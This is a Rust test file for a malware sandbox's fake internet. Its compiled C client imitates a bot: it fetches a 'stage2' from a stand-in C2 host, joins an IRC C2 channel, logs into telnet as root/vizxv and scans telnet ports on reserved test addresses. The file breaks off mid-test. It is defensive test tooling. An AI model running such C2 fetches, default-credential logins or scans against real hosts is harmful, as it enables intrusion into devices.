//! End-to-end tests of the fake internet: a benign client program runs in a real
//! ferret-sandbox whose network namespace receives the veth's sandbox end; it
//! resolves a name, fetches a file over HTTP, joins IRC, logs in over telnet, sends
//! UDP and connect-scans 50 addresses on port 23. The tests check the fake net's log,
//! the pcap (tshark and ferret-pcap), that nothing is left after teardown, and that
//! no frame of the fake net appears on the host's interfaces. They need root.

use std::collections::HashSet;
use std::fs;
use std::net::{IpAddr, Ipv4Addr, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Mutex, MutexGuard};
use std::time::{Duration, Instant};

use ferret_fakenet::{FakeNet, FakeNetConfig, HostWatch, TcpMode, TcpProtocol};
use ferret_sandbox::{ExitStatus, Network, Sandbox, SandboxConfig, SpawnSpec, WaitStatus};

/// Tests run one at a time: the leftover checks look at host-wide state.
static SERIAL: Mutex<()> = Mutex::new(());

fn serial() -> MutexGuard<'static, ()> {
    SERIAL
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
}

fn work_root() -> PathBuf {
    let p = PathBuf::from("/tmp/ferret-fakenet-tests");
    fs::create_dir_all(&p).unwrap();
    fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
    p
}

fn gcc(name: &str, src: &str) -> PathBuf {
    let dir = work_root().join("bin");
    fs::create_dir_all(&dir).unwrap();
    let c = dir.join(format!("{name}.c"));
    let out = dir.join(name);
    fs::write(&c, src).unwrap();
    let status = Command::new("gcc")
        .args(["-O1", "-Wall", "-o"])
        .arg(&out)
        .arg(&c)
        .status()
        .unwrap_or_else(|e| {
            panic!("gcc is needed to build the test client (scripts/install.sh installs it): {e}")
        });
    assert!(status.success(), "compiling {name} failed");
    out
}

/// Every network namespace inode any process or thread on the host is in, plus
/// those our own descriptors hold.
fn live_netns_inodes() -> HashSet<u64> {
    let mut set = HashSet::new();
    let parse = |link: &Path| -> Option<u64> {
        let t = fs::read_link(link).ok()?;
        let t = t.to_str()?;
        t.strip_prefix("net:[")?.strip_suffix(']')?.parse().ok()
    };
    for e in fs::read_dir("/proc").unwrap().flatten() {
        if e.file_name()
            .to_str()
            .is_none_or(|n| n.parse::<u32>().is_err())
        {
            continue;
        }
        if let Ok(tasks) = fs::read_dir(e.path().join("task")) {
            for t in tasks.flatten() {
                set.extend(parse(&t.path().join("ns/net")));
            }
        }
    }
    for fd in fs::read_dir("/proc/self/fd").unwrap().flatten() {
        set.extend(parse(&fd.path()));
    }
    set
}

/// Interfaces of the host's namespace that appeared since `before` and could be
/// ours (other engineers' tests may add their own meanwhile).
fn our_new_links(before: &[String]) -> Vec<String> {
    ip_lines(&["-o", "link", "show"])
        .into_iter()
        .filter(|l| !before.contains(l) && (l.contains("fake0") || l.contains("eth0@")))
        .collect()
}

fn ip_lines(args: &[&str]) -> Vec<String> {
    let out = Command::new("ip")
        .args(args)
        .output()
        .expect("iproute2's ip is needed (scripts/install.sh installs it)");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| l.split(':').take(2).collect::<Vec<_>>().join(":"))
        .collect()
}

/// Packet counters of the host's interfaces (loopback excluded).
fn host_counters() -> u64 {
    let mut sum = 0;
    for e in fs::read_dir("/sys/class/net").unwrap().flatten() {
        if e.file_name() == "lo" {
            continue;
        }
        for f in ["rx_packets", "tx_packets"] {
            sum += fs::read_to_string(e.path().join("statistics").join(f))
                .ok()
                .and_then(|s| s.trim().parse::<u64>().ok())
                .unwrap_or(0);
        }
    }
    sum
}

/// The watch sees frames in the host namespace: checked with loopback traffic,
/// which is allowed.
fn assert_watch_works() {
    let w = HostWatch::start(vec![(IpAddr::V4(Ipv4Addr::LOCALHOST), 8)], true).unwrap();
    std::thread::sleep(Duration::from_millis(50));
    let s = UdpSocket::bind("127.0.0.1:0").unwrap();
    let dst = UdpSocket::bind("127.0.0.1:0").unwrap();
    for _ in 0..3 {
        s.send_to(b"watch self-test", dst.local_addr().unwrap())
            .unwrap();
    }
    std::thread::sleep(Duration::from_millis(100));
    let r = w.stop();
    assert!(
        r.matching >= 3,
        "the host watch saw no loopback frame: {r:?}"
    );
}

const STAGE2: &[u8] = b"\x7fELF-not-really: ferret fake stage two\n";

const CLIENT: &str = r##"
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int conn(const char *ip, int port) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) { close(s); return -1; }
    return s;
}

static char buf[65536];

/* Reads until `until` appears, EOF, or 5 s of silence. */
static int readsome(int s, const char *until) {
    int n = 0;
    struct pollfd p = { s, POLLIN, 0 };
    buf[0] = 0;
    while (n < (int)sizeof buf - 1 && poll(&p, 1, 5000) > 0) {
        int r = read(s, buf + n, sizeof buf - 1 - n);
        if (r <= 0) break;
        n += r;
        buf[n] = 0;
        if (until && strstr(buf, until)) break;
    }
    return n;
}

int main(void) {
    struct addrinfo hints, *res;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    int rc = getaddrinfo("c2.ferret-test.example", "80", &hints, &res);
    if (rc) { printf("dns failed: %s\n", gai_strerror(rc)); return 1; }
    char ip[64];
    inet_ntop(AF_INET, &((struct sockaddr_in *)res->ai_addr)->sin_addr, ip, sizeof ip);
    printf("resolved %s\n", ip);

    int s = conn(ip, 80);
    if (s < 0) { printf("http connect failed\n"); return 1; }
    dprintf(s, "GET /stage2?arch=x86 HTTP/1.1\r\nHost: c2.ferret-test.example\r\n"
               "User-Agent: ferret-test-bot/1.0\r\nConnection: close\r\n\r\n");
    int n = readsome(s, NULL);
    close(s);
    char *body = strstr(buf, "\r\n\r\n");
    printf("http status %.12s body %s", buf, body ? body + 4 : "(none)\n");
    (void)n;

    s = conn("198.18.0.7", 6667);
    if (s < 0) { printf("irc connect failed\n"); return 1; }
    dprintf(s, "NICK bot4711\r\nUSER bot 0 * :ferret bot\r\n");
    readsome(s, " 376 ");
    printf("irc welcome %s\n", strstr(buf, " 001 bot4711 ") ? "yes" : "no");
    dprintf(s, "JOIN #ferret-c2\r\n");
    readsome(s, " 366 ");
    printf("irc joined %s\n", strstr(buf, "JOIN :#ferret-c2") ? "yes" : "no");
    dprintf(s, "PING :t1\r\n");
    readsome(s, "PONG");
    printf("irc pong %s\n", strstr(buf, "PONG") ? "yes" : "no");
    dprintf(s, "QUIT :bye\r\n");
    readsome(s, NULL);
    close(s);

    s = conn("192.0.2.23", 23);
    if (s < 0) { printf("telnet connect failed\n"); return 1; }
    readsome(s, "login: ");
    int login = strstr(buf, "login: ") != NULL;
    write(s, "root\r\n", 6);
    readsome(s, "Password: ");
    int pass = strstr(buf, "Password: ") != NULL;
    write(s, "vizxv\r\n", 7);
    readsome(s, "# ");
    int shell = strstr(buf, "# ") != NULL;
    write(s, "cat /proc/cpuinfo\r\n", 19);
    readsome(s, "# ");
    write(s, "exit\r\n", 6);
    readsome(s, NULL);
    close(s);
    printf("telnet login %d password %d shell %d\n", login, pass, shell);

    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in ua;
    memset(&ua, 0, sizeof ua);
    ua.sin_family = AF_INET;
    ua.sin_port = htons(9999);
    inet_pton(AF_INET, "203.0.113.9", &ua.sin_addr);
    sendto(u, "udp-hello", 9, 0, (struct sockaddr *)&ua, sizeof ua);
    close(u);

    /* DNS over TCP to an arbitrary resolver address. */
    s = conn("9.9.9.9", 53);
    if (s < 0) { printf("dns-tcp connect failed\n"); return 1; }
    static const unsigned char q[] = {
        0, 41, 0xbe, 0xef, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0,
        3, 't', 'c', 'p', 11, 'f', 'e', 'r', 'r', 'e', 't', '-', 't', 'e', 's', 't',
        7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1 };
    write(s, q, sizeof q);
    n = readsome(s, NULL);
    close(s);
    if (n >= 6)
        printf("dns-tcp id %02x%02x answer %d.%d.%d.%d\n", (unsigned char)buf[2],
               (unsigned char)buf[3], (unsigned char)buf[n - 4], (unsigned char)buf[n - 3],
               (unsigned char)buf[n - 2], (unsigned char)buf[n - 1]);

    /* IPv6: AAAA lookup and an HTTP request to an arbitrary IPv6 address. */
    struct addrinfo *res6;
    hints.ai_family = AF_INET6;
    rc = getaddrinfo("c2v6.ferret-test.example", "80", &hints, &res6);
    if (rc) { printf("dns6 failed: %s\n", gai_strerror(rc)); return 1; }
    char ip6[64];
    inet_ntop(AF_INET6, &((struct sockaddr_in6 *)res6->ai_addr)->sin6_addr, ip6, sizeof ip6);
    printf("resolved6 %s\n", ip6);
    s = socket(AF_INET6, SOCK_STREAM, 0);
    struct sockaddr_in6 a6;
    memset(&a6, 0, sizeof a6);
    a6.sin6_family = AF_INET6;
    a6.sin6_port = htons(80);
    inet_pton(AF_INET6, "2001:db8::80", &a6.sin6_addr);
    if (connect(s, (struct sockaddr *)&a6, sizeof a6) < 0) { printf("http6 connect failed\n"); return 1; }
    dprintf(s, "GET /v6 HTTP/1.0\r\nHost: v6.ferret-test.example\r\n\r\n");
    readsome(s, NULL);
    close(s);
    printf("http6 status %.15s\n", buf);

    int ok = 0;
    for (int i = 1; i <= 50; i++) {
        char a[32];
        snprintf(a, sizeof a, "198.51.100.%d", i);
        int c = conn(a, 23);
        if (c >= 0) { ok++; close(c); }
    }
    printf("scan %d\n", ok);
    return 0;
}
"##;

#[test]
fn sample_in_a_sandbox_talks_to_the_fake_internet() {
    let _g = serial();
    assert_watch_works();
    let client = gcc("fakenet-client", CLIENT);
    let out_dir = work_root().join("sandbox-run");
    let _ = fs::remove_dir_all(&out_dir);
    fs::create_dir_all(&out_dir).unwrap();
    let pcap = out_dir.join("capture.pcap");

    let links_before = ip_lines(&["-o", "link", "show"]);
    let counters_before = host_counters();

    let mut net = FakeNet::new(
        FakeNetConfig::default()
            .capture_to(&pcap)
            .serve("/stage2", STAGE2),
    )
    .unwrap();
    assert_eq!(net.tcp_mode(), &TcpMode::CatchAll);
    let (fake_ino, side_ino) = net.netns_inodes();
    // Watch the host for the fake net's prefix and every address the client uses.
    let mut watched = net.networks();
    for (a, p) in [
        ("198.51.100.0", 24),
        ("192.0.2.0", 24),
        ("198.18.0.0", 15),
        ("203.0.113.0", 24),
        ("192.168.1.1", 32),
    ] {
        watched.push((a.parse().unwrap(), p));
    }
    let watch = HostWatch::start(watched, false).unwrap();
    // Held by descriptor only: no bind mount under /run/netns is one of ours.
    for dir in ["/run/netns", "/var/run/netns"] {
        for e in fs::read_dir(dir).into_iter().flatten().flatten() {
            let ino = std::os::unix::fs::MetadataExt::ino(&fs::metadata(e.path()).unwrap());
            assert!(
                ino != fake_ino && ino != side_ino,
                "{} names a fake-net namespace",
                e.path().display()
            );
        }
    }
    // The fake net's interfaces are not in the host's namespace.
    let links_during = ip_lines(&["-o", "link", "show"]);
    assert_eq!(
        links_before, links_during,
        "an interface appeared on the host"
    );

    let cfg = SandboxConfig::new(work_root().join("tasks")).install(&client, "/root/client", 0o755);
    fs::create_dir_all(&cfg.work_root).unwrap();
    fs::set_permissions(&cfg.work_root, fs::Permissions::from_mode(0o755)).unwrap();
    let mut sb = Sandbox::new(cfg).unwrap();
    let spawned = sb.spawn(SpawnSpec::new(["/root/client"])).unwrap();
    let started = Instant::now();
    net.attach_pid(spawned.pid_map().init_host_pid()).unwrap();
    println!("attach took {:?}", started.elapsed());
    spawned.release().unwrap();
    let w = sb.wait(Instant::now() + Duration::from_secs(60)).unwrap();
    let outcome = sb.teardown().unwrap();
    let stdout = String::from_utf8_lossy(&outcome.stdout.data).into_owned();
    println!("client output:\n{stdout}");
    assert_eq!(w, WaitStatus::Exited, "the client did not finish");
    assert_eq!(outcome.sample_exit, Some(ExitStatus::Code(0)), "{stdout}");

    let done = net.teardown().unwrap();
    let host = watch.stop();
    let counters_after = host_counters();
    println!(
        "host: {} frames on non-loopback interfaces during the run ({} by the counters), {} of the fake net",
        host.frames,
        counters_after.saturating_sub(counters_before),
        host.matching
    );
    assert_eq!(
        host.matching, 0,
        "fake-net frames on the host: {:?}",
        host.examples
    );

    // What the client saw.
    assert!(stdout.contains("resolved 10.13.37.1"), "{stdout}");
    assert!(stdout.contains("http status HTTP/1.1 200"), "{stdout}");
    assert!(
        stdout.contains(std::str::from_utf8(STAGE2).unwrap()),
        "stage two not served: {stdout}"
    );
    for line in [
        "irc welcome yes",
        "irc joined yes",
        "irc pong yes",
        "telnet login 1 password 1 shell 1",
        "scan 50",
        "resolved6 fd13:3713:3713::1",
        "dns-tcp id beef answer 10.13.37.1",
        "http6 status HTTP/1.1 200 OK",
    ] {
        assert!(stdout.contains(line), "missing {line:?} in {stdout}");
    }

    // What the fake net logged.
    let log = &done.log;
    let q = log
        .dns
        .iter()
        .find(|q| q.name == "c2.ferret-test.example" && q.qtype == 1)
        .unwrap_or_else(|| panic!("DNS query not logged: {:?}", log.dns));
    assert_eq!(q.answer, Some(IpAddr::V4(Ipv4Addr::new(10, 13, 37, 1))));
    assert_eq!(q.server.to_string(), "192.168.1.1:53");
    let h = log
        .http
        .iter()
        .find(|h| h.uri == "/stage2?arch=x86")
        .unwrap_or_else(|| panic!("HTTP request not logged: {:?}", log.http));
    assert_eq!(h.method, "GET");
    assert_eq!(h.host.as_deref(), Some("c2.ferret-test.example"));
    assert_eq!(h.user_agent.as_deref(), Some("ferret-test-bot/1.0"));
    assert_eq!(h.original_dst.to_string(), "10.13.37.1:80");
    assert!(h.served_file);
    assert!(
        log.dns.iter().any(|q| q.name == "tcp.ferret-test.example"
            && q.transport == ferret_fakenet::DnsTransport::Tcp
            && q.server.to_string() == "9.9.9.9:53"),
        "DNS over TCP not logged: {:?}",
        log.dns
    );
    let h6 = log
        .http
        .iter()
        .find(|h| h.uri == "/v6")
        .unwrap_or_else(|| panic!("IPv6 HTTP request not logged: {:?}", log.http));
    assert_eq!(h6.original_dst.to_string(), "[2001:db8::80]:80");
    assert!(
        log.dns
            .iter()
            .any(|q| q.name == "c2v6.ferret-test.example" && q.qtype == 28 && q.answer.is_some()),
        "AAAA query not logged: {:?}",
        log.dns
    );
    let irc: Vec<(&str, Vec<&str>)> = log
        .irc
        .iter()
        .map(|l| {
            (
                l.command.as_str(),
                l.params.iter().map(String::as_str).collect(),
            )
        })
        .collect();
    assert!(irc.contains(&("NICK", vec!["bot4711"])), "{irc:?}");
    assert!(
        irc.contains(&("USER", vec!["bot", "0", "*", "ferret bot"])),
        "{irc:?}"
    );
    assert!(irc.contains(&("JOIN", vec!["#ferret-c2"])), "{irc:?}");
    assert!(
        log.irc
            .iter()
            .all(|l| l.original_dst.to_string() == "198.18.0.7:6667")
    );
    let t = log
        .telnet
        .iter()
        .find(|t| t.username.is_some())
        .unwrap_or_else(|| panic!("telnet login not logged: {:?}", log.telnet));
    assert_eq!(t.username.as_deref(), Some("root"));
    assert_eq!(t.password.as_deref(), Some("vizxv"));
    assert_eq!(t.commands, ["cat /proc/cpuinfo", "exit"]);
    assert_eq!(t.original_dst.to_string(), "192.0.2.23:23");
    let scanned: HashSet<String> = log
        .tcp
        .iter()
        .filter(|s| {
            s.original_dst.port() == 23 && s.original_dst.to_string().starts_with("198.51.100.")
        })
        .map(|s| s.original_dst.ip().to_string())
        .collect();
    assert_eq!(
        scanned.len(),
        50,
        "scan reached {} addresses",
        scanned.len()
    );
    assert!(
        log.tcp
            .iter()
            .any(|s| s.protocol == TcpProtocol::Http && s.bytes_to_client > STAGE2.len() as u64)
    );
    assert!(
        log.udp
            .iter()
            .any(|u| u.dst.to_string() == "203.0.113.9:9999" && u.bytes == 9),
        "UDP not logged: {:?}",
        log.udp
    );
    println!(
        "log: {} DNS, {} TCP sessions, {} HTTP, {} IRC lines, {} telnet, {} UDP",
        log.dns.len(),
        log.tcp.len(),
        log.http.len(),
        log.irc.len(),
        log.telnet.len(),
        log.udp.len()
    );

    // The serialised form the analysis report embeds.
    let json = serde_json::to_value(&done).unwrap();
    assert_eq!(json["log"]["dns"][0]["name"], "c2.ferret-test.example");
    assert_eq!(json["log"]["dns"][0]["transport"], "udp");
    assert!(json["log"]["tcp"][0]["at"].is_f64());
    let back: ferret_fakenet::FakeNetOutcome = serde_json::from_value(json).unwrap();
    assert_eq!(back.log.tcp.len(), log.tcp.len());
    assert_eq!(back.log.telnet[0].password.as_deref(), Some("vizxv"));
    assert_eq!(back.capture, done.capture);

    // The capture.
    let cap = &done.capture;
    println!("capture: {cap:?}");
    assert!(cap.write_error.is_none());
    assert_eq!(cap.packets_cut, 0);
    assert_eq!(fs::metadata(&pcap).unwrap().len(), cap.file_bytes);
    assert!(
        cap.packets_written >= 150,
        "only {} packets",
        cap.packets_written
    );
    let ts = Command::new("tshark")
        .args(["-r"])
        .arg(&pcap)
        .args(["-q", "-z", "io,stat,0"])
        .output()
        .expect("tshark is needed (scripts/install.sh installs it)");
    let ts_out = String::from_utf8_lossy(&ts.stdout);
    assert!(
        ts.status.success(),
        "tshark failed: {}",
        String::from_utf8_lossy(&ts.stderr)
    );
    let frames: u64 = ts_out
        .lines()
        .find_map(|l| {
            let f: Vec<&str> = l
                .split('|')
                .map(str::trim)
                .filter(|s| !s.is_empty())
                .collect();
            (f.len() >= 3 && f[0].contains("<>"))
                .then(|| f[1].parse().ok())
                .flatten()
        })
        .unwrap_or_else(|| panic!("no frame count in tshark's io,stat output:\n{ts_out}"));
    println!("tshark io,stat: {frames} frames");
    assert_eq!(frames, cap.packets_written);
    let report = ferret_pcap::analyze_file(&pcap, &ferret_pcap::Options::default()).unwrap();
    assert!(report.error.is_none(), "{:?}", report.error);
    assert!(
        report.dns.iter().any(|m| m
            .questions
            .iter()
            .any(|q| q.name.trim_end_matches('.') == "c2.ferret-test.example")),
        "ferret-pcap saw no DNS query for the C2"
    );
    assert!(
        report
            .http
            .iter()
            .any(|h| h.uri == "/stage2?arch=x86"
                && h.host.as_deref() == Some("c2.ferret-test.example")),
        "ferret-pcap saw no HTTP request"
    );
    // What `ferret analyze` will show of this run: IRC, typed telnet credentials and
    // the scan, as ferret-pcap sees them in our capture.
    let irc_cmds: Vec<&str> = report
        .irc
        .iter()
        .filter(|m| m.from_client)
        .map(|m| m.command.as_str())
        .collect();
    println!("ferret-pcap: IRC from client {irc_cmds:?}");
    assert!(
        irc_cmds.contains(&"NICK") && irc_cmds.contains(&"JOIN"),
        "{irc_cmds:?}"
    );
    let creds: Vec<(Option<&str>, Option<&str>)> = report
        .telnet
        .iter()
        .flat_map(|t| &t.credentials)
        .map(|c| (c.username.as_deref(), c.password.as_deref()))
        .collect();
    println!("ferret-pcap: telnet credentials {creds:?}");
    assert!(creds.contains(&(Some("root"), Some("vizxv"))), "{creds:?}");
    let kinds: Vec<&str> = report.anomalies.iter().map(|a| a.kind.as_ref()).collect();
    println!("ferret-pcap: anomalies {kinds:?}");
    assert!(kinds.iter().any(|k| k.contains("scan")), "{kinds:?}");

    // Nothing left: no namespace, interface or named namespace of ours.
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let live = live_netns_inodes();
        if !live.contains(&fake_ino) && !live.contains(&side_ino) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "a fake-net namespace is still referenced"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(our_new_links(&links_before), Vec::<String>::new());
}

/// Join mode: the sandbox joins the prepared sandbox-side namespace. NXDOMAIN
/// policy, the banner/echo responder, and a capture cut by its size limit.
#[test]
fn joined_namespace_nxdomain_echo_and_capture_cut() {
    let _g = serial();
    let out_dir = work_root().join("join-run");
    let _ = fs::remove_dir_all(&out_dir);
    fs::create_dir_all(&out_dir).unwrap();
    let pcap = out_dir.join("capture.pcap");
    let links_before = ip_lines(&["-o", "link", "show"]);
    let mut cfg = FakeNetConfig::default().capture_to(&pcap);
    cfg.dns_nxdomain = true;
    cfg.capture_max_bytes = 2000;
    let mut net = FakeNet::new(cfg).unwrap();
    let watch = HostWatch::start(net.networks(), false).unwrap();
    let (fake_ino, side_ino) = net.netns_inodes();

    let mut scfg = SandboxConfig::new(work_root().join("tasks"));
    scfg.network = Network::Join(net.sandbox_netns_path().unwrap());
    fs::create_dir_all(&scfg.work_root).unwrap();
    let mut sb = Sandbox::new(scfg).unwrap();
    let script = r#"
        getent hosts nx.ferret-test.example || echo nxdomain-ok
        exec 3<>/dev/tcp/192.0.2.80/8080
        printf 'GET /index.html HTTP/1.0\r\nHost: www.ferret-test.example\r\n\r\n' >&3
        head -c 15 <&3; echo
        exec 3<&-
        exec 4<>/dev/tcp/10.13.37.99/7777
        echo hello-echo >&4
        read -t 5 line <&4; echo "echo:$line"
        exec 4<&-
        exec 5<>/dev/tcp/10.13.37.99/21
        read -t 5 line <&5; echo "ftp:$line"
    "#;
    let spawned = sb
        .spawn(SpawnSpec::new(["/bin/bash", "-c", script]))
        .unwrap();
    spawned.release().unwrap();
    sb.wait(Instant::now() + Duration::from_secs(30)).unwrap();
    let outcome = sb.teardown().unwrap();
    let stdout = String::from_utf8_lossy(&outcome.stdout.data).into_owned();
    println!("{stdout}{}", String::from_utf8_lossy(&outcome.stderr.data));
    let done = net.teardown().unwrap();
    let host = watch.stop();
    assert_eq!(host.matching, 0, "{:?}", host.examples);

    assert!(stdout.contains("nxdomain-ok"), "{stdout}");
    assert!(stdout.contains("HTTP/1.1 200 OK"), "{stdout}");
    assert!(stdout.contains("echo:hello-echo"), "{stdout}");
    assert!(stdout.contains("ftp:220 FTP server ready."), "{stdout}");
    let log = &done.log;
    assert!(
        log.dns
            .iter()
            .any(|q| q.name == "nx.ferret-test.example" && q.rcode == 3 && q.answer.is_none()),
        "{:?}",
        log.dns
    );
    let h = log.http.iter().find(|h| h.uri == "/index.html").unwrap();
    assert_eq!(h.original_dst.to_string(), "192.0.2.80:8080");
    assert!(!h.served_file);
    assert!(log.tcp.iter().any(|s| s.protocol == TcpProtocol::Generic
        && s.original_dst.to_string() == "10.13.37.99:7777"
        && s.bytes_from_client == 11
        && s.bytes_to_client == 11));

    // The capture stopped at its limit and says so; the file is still valid.
    let cap = &done.capture;
    println!("capture: {cap:?}");
    assert!(cap.file_bytes <= 2000);
    assert_eq!(fs::metadata(&pcap).unwrap().len(), cap.file_bytes);
    assert!(cap.packets_cut > 0 && cap.bytes_cut > 0, "{cap:?}");
    assert_eq!(cap.packets_written + cap.packets_cut, cap.packets_seen);
    let ts = Command::new("tshark")
        .arg("-r")
        .arg(&pcap)
        .output()
        .expect("tshark is needed (scripts/install.sh installs it)");
    assert!(ts.status.success());
    assert_eq!(
        String::from_utf8_lossy(&ts.stdout).lines().count() as u64,
        cap.packets_written
    );

    let deadline = Instant::now() + Duration::from_secs(5);
    while {
        let live = live_netns_inodes();
        live.contains(&fake_ino) || live.contains(&side_ino)
    } {
        assert!(
            Instant::now() < deadline,
            "a fake-net namespace is still referenced"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(our_new_links(&links_before), Vec::<String>::new());
}

#[test]
fn bad_configuration_and_attach_targets_are_refused() {
    let _g = serial();
    let cases: Vec<(&str, FakeNetConfig)> = vec![
        (
            "prefix_len",
            FakeNetConfig {
                prefix_len: 31,
                ..FakeNetConfig::default()
            },
        ),
        (
            "is not in",
            FakeNetConfig {
                sandbox_addr: Ipv4Addr::new(10, 99, 0, 2),
                ..FakeNetConfig::default()
            },
        ),
        (
            "both",
            FakeNetConfig {
                sandbox_addr: Ipv4Addr::new(10, 13, 37, 1),
                ..FakeNetConfig::default()
            },
        ),
        (
            "interface name",
            FakeNetConfig {
                sandbox_ifname: "a-very-long-interface-name".into(),
                ..FakeNetConfig::default()
            },
        ),
        (
            "does not start with",
            FakeNetConfig::default().serve("stage2", &b"x"[..]),
        ),
        (
            "max_connections",
            FakeNetConfig {
                max_connections: 0,
                ..FakeNetConfig::default()
            },
        ),
    ];
    for (needle, cfg) in cases {
        let e = FakeNet::new(cfg).expect_err(needle).to_string();
        assert!(e.contains(needle), "{e:?} does not mention {needle:?}");
    }
    let links_before = ip_lines(&["-o", "link", "show"]);
    let mut net = FakeNet::new(FakeNetConfig::default()).unwrap();
    // The host's own namespace is never a target.
    let e = net
        .attach_pid(std::process::id() as i32)
        .unwrap_err()
        .to_string();
    assert!(e.contains("host namespace"), "{e}");
    let e = net.attach_pid(i32::MAX).unwrap_err().to_string();
    assert!(
        e.contains("opening the network namespace of process"),
        "{e}"
    );
    net.teardown().unwrap();
    let e = net.attach_pid(1).unwrap_err().to_string();
    assert!(e.contains("after teardown"), "{e}");
    // Dropping without teardown cleans up too.
    let net = FakeNet::new(FakeNetConfig::default()).unwrap();
    let (a, b) = net.netns_inodes();
    assert!(live_netns_inodes().contains(&a));
    drop(net);
    let live = live_netns_inodes();
    assert!(
        !live.contains(&a) && !live.contains(&b),
        "a namespace survived the drop"
    );
    assert_eq!(our_new_links(&links_before), Vec::<String>::new());
}

/// Past `max_connections` sessions at once, connections are accepted, closed at
/// once and counted.
#[test]
fn connection_cap_refuses_and_counts() {
    let _g = serial();
    let mut net = FakeNet::new(FakeNetConfig {
        max_connections: 2,
        ..FakeNetConfig::default()
    })
    .unwrap();
    let mut scfg = SandboxConfig::new(work_root().join("tasks"));
    scfg.network = Network::Join(net.sandbox_netns_path().unwrap());
    fs::create_dir_all(&scfg.work_root).unwrap();
    let mut sb = Sandbox::new(scfg).unwrap();
    // Two idle sessions hold both slots; the third is closed: read sees EOF (status
    // 1) at once instead of timing out (status > 128).
    let script = r#"
        exec 3<>/dev/tcp/198.51.100.1/7001
        exec 4<>/dev/tcp/198.51.100.2/7002
        sleep 0.5
        exec 5<>/dev/tcp/198.51.100.3/7003
        read -t 3 x <&5; echo "third:$?"
    "#;
    let spawned = sb
        .spawn(SpawnSpec::new(["/bin/bash", "-c", script]))
        .unwrap();
    spawned.release().unwrap();
    sb.wait(Instant::now() + Duration::from_secs(30)).unwrap();
    let outcome = sb.teardown().unwrap();
    let stdout = String::from_utf8_lossy(&outcome.stdout.data).into_owned();
    let done = net.teardown().unwrap();
    assert!(stdout.contains("third:1"), "{stdout}");
    assert_eq!(done.log.refused_connections, 1);
    let refused: Vec<_> = done.log.tcp.iter().filter(|s| s.refused).collect();
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0].original_dst.to_string(), "198.51.100.3:7003");
}

const SCANNER: &str = r##"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    int ok = 0;
    for (int i = 0; i < 2000; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a;
        memset(&a, 0, sizeof a);
        a.sin_family = AF_INET;
        a.sin_port = htons(i % 2 ? 23 : 2323);
        a.sin_addr.s_addr = htonl(0x64400000u + (unsigned)i); /* 100.64.0.0/10 */
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) ok++;
        close(s);
    }
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    for (int i = 0; i < 500; i++) {
        struct sockaddr_in a;
        memset(&a, 0, sizeof a);
        a.sin_family = AF_INET;
        a.sin_port = htons(10000 + i);
        a.sin_addr.s_addr = htonl(0xc6336400u + (unsigned)(i % 200)); /* 198.51.100.0/24 */
        sendto(u, "probe", 5, 0, (struct sockaddr *)&a, sizeof a);
    }
    printf("connected %d\n", ok);
    return 0;
}
"##;

/// A 2,000-address telnet scan and 500 UDP probes: every connection and datagram is
/// recorded and captured, nothing dropped, within bounded threads.
#[test]
fn two_thousand_address_scan_is_fully_recorded() {
    let _g = serial();
    let scanner = gcc("fakenet-scanner", SCANNER);
    let pcap = work_root().join("scan.pcap");
    let mut net = FakeNet::new(FakeNetConfig::default().capture_to(&pcap)).unwrap();
    let cfg =
        SandboxConfig::new(work_root().join("tasks")).install(&scanner, "/root/scanner", 0o755);
    fs::create_dir_all(&cfg.work_root).unwrap();
    let mut sb = Sandbox::new(cfg).unwrap();
    let spawned = sb.spawn(SpawnSpec::new(["/root/scanner"])).unwrap();
    net.attach_pid(spawned.pid_map().init_host_pid()).unwrap();
    let t0 = Instant::now();
    spawned.release().unwrap();
    sb.wait(Instant::now() + Duration::from_secs(120)).unwrap();
    let elapsed = t0.elapsed();
    let outcome = sb.teardown().unwrap();
    let stdout = String::from_utf8_lossy(&outcome.stdout.data).into_owned();
    let done = net.teardown().unwrap();
    let log = &done.log;
    println!(
        "scan: {stdout:?} in {elapsed:?}; {} TCP sessions, {} refused, {} UDP; capture {:?}",
        log.tcp.len(),
        log.refused_connections,
        log.udp.len(),
        done.capture
    );
    assert!(stdout.contains("connected 2000"), "{stdout}");
    let dsts: HashSet<_> = log.tcp.iter().map(|s| s.original_dst).collect();
    assert_eq!(dsts.len(), 2000);
    assert_eq!(log.udp.iter().filter(|u| u.bytes == 5).count(), 500);
    assert_eq!(done.capture.kernel_drops, 0);
    assert_eq!(done.capture.packets_cut, 0);
    // At least SYN, SYN-ACK, ACK and a FIN per connection, one frame per probe.
    assert!(done.capture.packets_written >= 2000 * 4 + 500);
    let _ = fs::remove_file(&pcap);
}

/// Without the catch-all, the configured ports answer and others are refused.
#[test]
fn fixed_port_mode_without_the_catch_all() {
    let _g = serial();
    let mut net = FakeNet::new(FakeNetConfig {
        tcp_catch_all: false,
        tcp_ports: vec![80, 6667],
        ..FakeNetConfig::default()
    })
    .unwrap();
